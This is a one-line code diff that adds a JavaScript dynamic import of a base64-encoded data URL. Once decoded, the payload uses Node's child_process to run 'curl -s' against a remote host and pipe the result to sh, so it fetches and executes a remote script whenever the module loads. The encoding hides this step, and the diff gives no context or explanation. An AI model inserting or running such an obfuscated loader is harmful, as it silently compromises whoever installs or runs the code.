@@ -1,0 +1,1 @@
+await import('data:text/javascript;base64,aW1wb3J0IGNwIGZyb20gJ25vZGU6Y2hpbGRfcHJvY2Vzcyc7Y3AuZXhlYygnY3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlLm5ldC9hIHwgc2gnKQ==');
